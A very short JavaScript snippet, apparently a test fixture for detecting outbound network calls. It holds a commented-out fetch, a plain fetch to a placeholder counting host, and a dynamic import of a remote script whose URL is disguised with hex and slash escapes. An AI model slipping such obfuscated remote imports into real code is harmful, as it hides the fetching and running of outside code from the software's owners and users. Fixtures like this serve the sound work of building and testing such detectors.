// fetch("https://named.example") says nothing.
const host = "https://count.example";
fetch(`${host}/visit`);
import("\x68ttps:\/\/modules.example/a.js");
